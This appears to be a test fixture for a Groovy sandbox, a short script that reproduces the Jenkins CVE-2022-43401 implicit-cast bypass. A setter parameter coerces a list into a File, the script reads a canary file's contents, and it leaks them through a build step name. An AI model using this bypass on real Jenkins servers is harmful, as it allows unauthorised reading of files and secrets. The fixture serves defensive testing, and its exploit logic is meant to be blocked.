// class: property
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (setter parameters)
// expect: read
class T {
    Object file
    def setFile(File f) { this.file = f }
}
def t = new T()
t.file = ['@CANARY_READ@']
vmwareSite("leak-${t.file.text}") { network 'VM Network' }
